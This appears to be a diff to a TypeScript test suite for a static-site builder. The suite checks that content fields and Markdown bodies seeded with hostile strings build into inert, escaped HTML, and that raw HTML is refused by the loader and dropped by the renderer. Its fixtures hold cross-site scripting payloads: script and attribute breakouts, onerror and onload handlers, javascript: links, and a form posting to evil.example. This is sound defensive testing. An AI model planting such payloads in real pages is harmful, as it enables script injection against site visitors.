@@ -2,11 +2,12 @@
  * Content never becomes markup unsafely. A copy of the content being built
  * (content/, or SITE_CONTENT) gets hostile strings in every text field the
  * schema accepts them in (titles, descriptions, FAQ answers, quotes, alt
- * texts, the fields JSON-LD and island props are built from) and raw HTML
- * plus javascript: links in every Markdown body; it is built into a
+ * texts, the fields JSON-LD and island props are built from) and escaped
+ * breakouts plus javascript: links in every Markdown body; it is built into a
  * temporary folder and the output is checked for anything a browser would
  * execute. What the loader refuses outright (javascript: addresses in link
- * fields and Markdown images) is checked to be refused before any build.
+ * fields and Markdown images, raw HTML in Markdown) is checked to be refused
+ * before any build, and raw HTML to be dropped by the renderer all the same.
  */
 import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
@@ -17,6 +18,7 @@ import path from 'node:path';
 import yaml from 'js-yaml';
 import { build } from '../../build.ts';
 import { ContentError, loadContent, type ContentIssue } from '../../src/content/loader.ts';
+import { markdownToHtml } from '../../src/content/markdown.ts';
 import { contentSecurityPolicy } from '../../src/pipeline/host/headers.ts';
 import { CONTENT, ROOT } from '../helpers/site.ts';
 import { decodeEntities, htmlFiles, isDataScript, jsonLd, openingTags, scripts } from '../../tools/html.ts';
@@ -26,20 +28,34 @@ const ATTR_BREAKOUT = '"><img src=x onerror=alert(1)>';
 const LINE_SEP = '\u2028';
 /** Appended to every text field: it must come out as text wherever it lands (HTML, attributes, JSON-LD, island props). */
 const TEXT_PAYLOAD = ` ${SCRIPT_BREAKOUT} ${ATTR_BREAKOUT} ${LINE_SEP}'\u2029<!--`;
-/** Appended to every Markdown body: raw HTML and script links must be dropped by the sanitiser. */
+/** Fields written in Markdown (a section's body, an FAQ answer): the loader refuses raw HTML there, so they take the payload as Markdown text, each "<" escaped. */
+const MARKDOWN_FIELDS = new Set(['body', 'answer']);
+const payloadFor = (key: string) => (MARKDOWN_FIELDS.has(key) ? TEXT_PAYLOAD.replaceAll('<', '\\<') : TEXT_PAYLOAD);
+/**
+ * Appended to every Markdown body: the breakouts written as Markdown text (each "<" escaped, so it is
+ * text, not HTML) must come out escaped, and links to script addresses must lose their address.
+ */
 const MARKDOWN_PAYLOAD = [
   '',
-  `Hostile ${SCRIPT_BREAKOUT} ${ATTR_BREAKOUT} text${LINE_SEP}here.`,
+  `Hostile ${`${SCRIPT_BREAKOUT} ${ATTR_BREAKOUT}`.replaceAll('<', '\\<')} text${LINE_SEP}here.`,
   '',
+  '[markdown link](javascript:alert(7)) and [spaced](  JaVaScRiPt:alert(8))',
+  '',
+].join('\n');
+
+/**
+ * Raw HTML in Markdown: the loader refuses it with file and line (it would never be published), and
+ * the renderer, the second line of defence, drops it.
+ */
+const RAW_HTML_PAYLOAD = [
   '<script>alert(2)</script>',
   '',
   '<img src="x" onerror="alert(3)"><svg onload="alert(4)"></svg><iframe src="javascript:alert(5)"></iframe>',
   '',
-  '<a href="javascript:alert(6)">raw link</a> and [markdown link](javascript:alert(7)) and [spaced](  JaVaScRiPt:alert(8))',
+  '<a href="javascript:alert(6)">raw link</a> and more text',
   '',
   // (Spaced CSS: "{display:none}" would read as a fact token, which the loader reports before any sanitiser runs.)
   '<form action="https://evil.example/"><input name="x"></form><style>body { display: none }</style><object data="x"></object>',
-  '',
 ].join('\n');
 
 /** A Markdown image written with a javascript: address: the loader refuses it (only photos under content/images/ are published). */
@@ -91,7 +107,7 @@ function visitString(file: string, parent: Record<string | number, unknown>, key
   const value = parent[key] as string;
   const name = typeof key === 'number' ? String(at[at.length - 1] ?? '') : key;
   if (isStructural(name, value)) return;
-  parent[key] = value + TEXT_PAYLOAD;
+  parent[key] = value + payloadFor(name);
   out.push({ file, at: [...at, key], original: value, stage: 'append' });
 }
 
@@ -172,7 +188,7 @@ before(async () => {
         const f = files.find((x) => x.rel === rel)!;
         if (m.stage === 'append') {
           m.stage = 'replace';
-          setIn(f.data, m.at, TEXT_PAYLOAD.trim());
+          setIn(f.data, m.at, payloadFor(String(m.at[m.at.length - 1])).trim());
         } else {
           setIn(f.data, m.at, m.original);
           mutations.splice(mutations.indexOf(m), 1);
@@ -289,14 +305,41 @@ describe('hostile content builds into inert markup', () => {
     assert.ok(/&quot;&gt;&lt;img src=x onerror=alert\(1\)&gt;/.test(post.html), 'attribute breakout escaped');
   });
 
-  test('the Markdown bodies keep their text but lose raw HTML and script links', () => {
+  test('the Markdown bodies keep their text, escaped, and lose script links', () => {
     const bodies = [hostilePost(), ...tourPages()];
     assert.equal(bodies.length, 1 + publicTourRoutes.length, 'a post and every public tour page');
     for (const page of bodies) {
+      assert.ok(page.html.includes('Hostile &lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;'), `${page.file}: the breakout written in Markdown is escaped text`);
       const text = decodeEntities(page.html);
-      for (const kept of ['Hostile', 'raw link', 'markdown link']) assert.ok(text.includes(kept), `${page.file}: "${kept}" is kept`);
-      for (let n = 2; n <= 9; n++) assert.ok(!text.includes(`alert(${n})`), `${page.file}: raw HTML or link ${n} was dropped`);
+      assert.ok(text.includes('markdown link'), `${page.file}: the link's text is kept`);
+      for (const n of [7, 8]) assert.ok(!text.includes(`alert(${n})`), `${page.file}: link ${n} lost its address`);
     }
+  });
+
+  test('raw HTML in a Markdown body is refused before anything is built, each block by its line', () => {
+    const post = files.find((f) => f.rel.startsWith('blog/') && f.kind === 'md')!;
+    const full = path.join(contentDir, post.rel);
+    writeFileSync(full, writeFrontMatter(post.data, `${post.body}\n${RAW_HTML_PAYLOAD}\n`));
+    try {
+      assert.throws(
+        () => loadContent(contentDir),
+        (e: unknown) => {
+          assert.ok(e instanceof ContentError);
+          const raw = e.issues.filter((i) => i.file === `content/${post.rel}` && /^line \d+$/.test(i.path) && /^raw HTML \(<\w+>\) is not published/.test(i.message));
+          assert.deepEqual(raw.map((i) => /<(\w+)>/.exec(i.message)![1]), ['script', 'img', 'svg', 'iframe', 'a', 'form'], e.message);
+          return true;
+        },
+      );
+    } finally {
+      writeFileSync(full, writeFrontMatter(post.data, post.body!));
+    }
+  });
+
+  test('raw HTML that reached the renderer would still be dropped', () => {
+    const html = markdownToHtml(`Text before.\n\n${RAW_HTML_PAYLOAD}`);
+    assert.ok(html.includes('Text before.'));
+    for (let n = 2; n <= 6; n++) assert.ok(!html.includes(`alert(${n})`), `raw HTML ${n} was dropped: ${html}`);
+    for (const name of ['script', 'img', 'svg', 'iframe', 'form', 'style', 'object']) assert.equal(openingTags(html, name).length, 0, `<${name}> was dropped`);
   });
 
   test('JSON-LD still parses and carries the hostile text as text, escaped against </script>', () => {
